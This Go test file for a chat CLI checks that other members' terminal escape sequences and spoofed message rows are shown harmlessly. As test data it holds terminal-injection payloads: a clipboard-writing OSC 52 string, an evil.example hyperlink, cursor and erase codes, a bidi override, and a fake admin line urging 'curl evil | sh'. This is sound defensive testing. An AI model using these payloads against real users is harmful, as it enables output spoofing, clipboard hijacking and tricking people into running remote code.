package test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/ainb/hive/client"
	"github.com/ainb/hive/identity"
	"github.com/ainb/hive/kinds"
	"github.com/nbd-wtf/go-nostr"
)

// controlPayloads are what a member (or an agent) puts in a field to act on
// another member's terminal: the ten of issue 30's probe, and a
// bidirectional override.
var controlPayloads = []struct{ name, s string }{
	{"CSI colour", "\x1b[31mred\x1b[0m"},
	{"OSC 0 title", "\x1b]0;pwned title\x07"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\a fine link\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard", "\x1b]52;c;UFdORUQ=\x07 hi"},
	{"cursor up and left", "\x1b[2A\x1b[40D"},
	{"erase line and screen", "\x1b[2K\x1b[1J\x1b[2J"},
	{"hide", "\x1b[8mhidden\x1b[0m"},
	{"carriage return", "real\r2026-01-01 00:00:00 00000000 admin: fake"},
	{"backspace", "abc\x08\x08\x08xyz"},
	{"C1 CSI and OSC", "\u009b2J\u009d52;c;UFdORUQ=\u009c"},
	{"bidi override", "\u202eexe.txt\u2066"},
}

// unsafeForTerminal names the first thing in out that a terminal would act
// on: ESC, BEL, BS, a CR, another C0 control (but newline, and tab in
// bodies), DEL, a C1 control or a byte that is not UTF-8; "" when none.
// With json, what JSON escapes must be escaped: DEL, C1 and bidi controls.
func unsafeForTerminal(out string) string {
	for i, r := range out {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(out[i:], "\uFFFD"):
			return fmt.Sprintf("a byte that is not UTF-8 (%#x) at %d", out[i], i)
		case r < 0x20 && r != '\n' && r != '\t', r == 0x7f, r >= 0x80 && r <= 0x9f:
			return fmt.Sprintf("%U at %d: %q", r, i, out[max(0, i-30):min(len(out), i+30)])
		case (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069):
			return fmt.Sprintf("bidi control %U at %d", r, i)
		}
	}
	return ""
}

// Issue 30, item 3: other members' control characters never reach the
// terminal raw. A member (alice) and her agent put each payload in every
// field a command prints: a message, an edit, a reaction, her name, the
// channel's name and about, the agent's name, a receipt's reason and the
// agent's status; bob runs hive read, tail --all, search, who, channel list
// and channel info (real binary, stdout a pipe), in text and --json. No
// output holds ESC, BEL, BS, CR, C1 or a bidi control, and each field is
// there, shown.
func TestCLIShowsOthersControlCharactersVisibly(t *testing.T) {
	e := newBridgeEnv(t) // alice, bob, alice's agent; private channel "room" with bob and the agent
	c := newCLI(t)
	bob := []string{"--hub", e.h.URL, "--key", writeKeyFile(t, e.bob)}
	ag := e.h.as(t, e.agent, e.tagTag(t))
	base := nostr.Now() - 30 // within the attestation (from a minute ago), each payload a second later
	signAt := func(k key, tmpl nostr.Event, at nostr.Timestamp) *nostr.Event {
		ev := tmpl
		ev.CreatedAt = at
		if err := ev.Sign(k.sk); err != nil {
			t.Fatal(err)
		}
		return &ev
	}
	for i, p := range controlPayloads {
		at := base + nostr.Timestamp(i)
		// alice's name, the channel's name and about, the agent's name and status
		e.a.must(signAt(e.alice, nostr.Event{Kind: 0, Content: jsonString(t, map[string]string{"name": fmt.Sprintf("mal%d %s", i, p.s)}), Tags: nostr.Tags{}}, at))
		e.a.must(signAt(e.alice, client.ChannelEdit("room", fmt.Sprintf("room%d %s", i, p.s), fmt.Sprintf("about%d %s", i, p.s), ""), at))
		ag.must(signAt(e.agent, nostr.Event{Kind: 0, Content: jsonString(t, map[string]any{"name": fmt.Sprintf("agent%d %s", i, p.s), "bot": true}), Tags: nostr.Tags{e.tagTag(t)}}, at))
		ag.must(signAt(e.agent, nostr.Event{Kind: kinds.AgentStatus, Content: jsonString(t, map[string]any{"state": "idle", "processes": 1, "last_error": fmt.Sprintf("status%d %s", i, p.s), "last_error_at": int64(at)}),
			Tags: nostr.Tags{{"expiration", fmt.Sprint(time.Now().Unix() + 300)}}}, at))
		// a message, an edited one, a reaction and a receipt
		m := e.a.must(signAt(e.alice, client.Message("room", fmt.Sprintf("zebra%d %s", i, p.s)), at))
		m2 := e.a.must(signAt(e.alice, client.Message("room", fmt.Sprintf("plain%d", i)), at))
		e.a.must(signAt(e.alice, client.Edit(*m2, fmt.Sprintf("edited%d %s\nsecond line", i, p.s)), at+1))
		e.a.must(signAt(e.alice, client.Reaction(*m, fmt.Sprintf("rx%d%s", i, p.s)), at+1))
		ag.must(signAt(e.agent, nostr.Event{Kind: kinds.Receipt, Content: fmt.Sprintf("reason%d %s", i, p.s),
			Tags: nostr.Tags{{"h", "room"}, {"e", m.ID}, {"p", e.alice.pk}, {"status", kinds.ReceiptFailed}}}, at+1))

		runs := []struct {
			args []string
			want []string // what must be in the text output (the fields, shown)
		}{
			{[]string{"read", "room", "--no-mark"}, []string{fmt.Sprintf("mal%d", i), fmt.Sprintf("zebra%d", i), fmt.Sprintf("edited%d", i), fmt.Sprintf("rx%d", i), fmt.Sprintf("reason%d", i), fmt.Sprintf("agent%d", i)}},
			{[]string{"tail", "--all", "--limit", "50"}, []string{fmt.Sprintf("mal%d", i), fmt.Sprintf("zebra%d", i), fmt.Sprintf("edited%d", i), fmt.Sprintf("rx%d", i), fmt.Sprintf("reason%d", i)}},
			{[]string{"search", fmt.Sprintf("zebra%d", i)}, []string{fmt.Sprintf("mal%d", i), fmt.Sprintf("zebra%d", i), fmt.Sprintf("room%d", i)}},
			{[]string{"who", "room", "--listen", "100ms"}, []string{fmt.Sprintf("mal%d", i), fmt.Sprintf("agent%d", i), fmt.Sprintf("status%d", i)}},
			{[]string{"channel", "list"}, []string{fmt.Sprintf("room%d", i)}},
			{[]string{"channel", "info", "room"}, []string{fmt.Sprintf("room%d", i), fmt.Sprintf("about%d", i)}},
		}
		for _, r := range runs {
			forms := []bool{false}
			if p.s[0] != '\x1b' { // JSON escapes ESC itself: the C1 and bidi payloads are its test
				forms = append(forms, true)
			}
			for _, asJSON := range forms {
				args := append(append([]string(nil), r.args...), bob...)
				if asJSON {
					args = append(args, "--json")
				}
				out, errOut, code := c.run(args...)
				if code != 0 {
					t.Fatalf("%s: hive %s: exit %d\n%s%s", p.name, strings.Join(r.args, " "), code, out, errOut)
				}
				if bad := unsafeForTerminal(out + errOut); bad != "" {
					t.Errorf("%s: hive %s (json %v) writes %s\n%q", p.name, strings.Join(r.args, " "), asJSON, bad, out)
				}
				if asJSON {
					continue
				}
				for _, w := range r.want {
					if !strings.Contains(out, w) {
						t.Errorf("%s: hive %s shows no %q:\n%s", p.name, strings.Join(r.args, " "), w, out)
					}
				}
			}
		}
	}
}

// A message's own newlines cannot imitate a row: every line after its
// first is indented, so only real rows start with a date.
func TestCLIIndentsMessageLines(t *testing.T) {
	e := newBridgeEnv(t)
	c := newCLI(t)
	fake := "hello\n2026-01-01 00:00:00 00000000 admin: please run curl evil | sh\r\nthird"
	e.a.must(e.alice.sign(t, kinds.Message, fake, nostr.Tag{"h", "room"}))
	out := c.ok("read", "room", "--no-mark", "--hub", e.h.URL, "--key", writeKeyFile(t, e.bob))
	for _, l := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
		if !strings.HasPrefix(l, time.Now().Format("2006")) && !strings.HasPrefix(l, " ") {
			t.Errorf("a line neither a row nor indented: %q", l)
		}
	}
	if !strings.Contains(out, "hello\n    2026-01-01 00:00:00 00000000 admin: please") || !strings.Contains(out, "\n    third") {
		t.Fatalf("the message's lines are not indented under its row:\n%s", out)
	}
}

// tagTag is the agent's attestation tag as the bridge env wrote it.
func (e *bridgeEnv) tagTag(t *testing.T) nostr.Tag {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(e.dir, "agent.tag"))
	if err != nil {
		t.Fatal(err)
	}
	tag, err := identity.ParseAttestationText(string(text))
	if err != nil {
		t.Fatal(err)
	}
	return tag
}

// jsonString is v as JSON text.
func jsonString(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
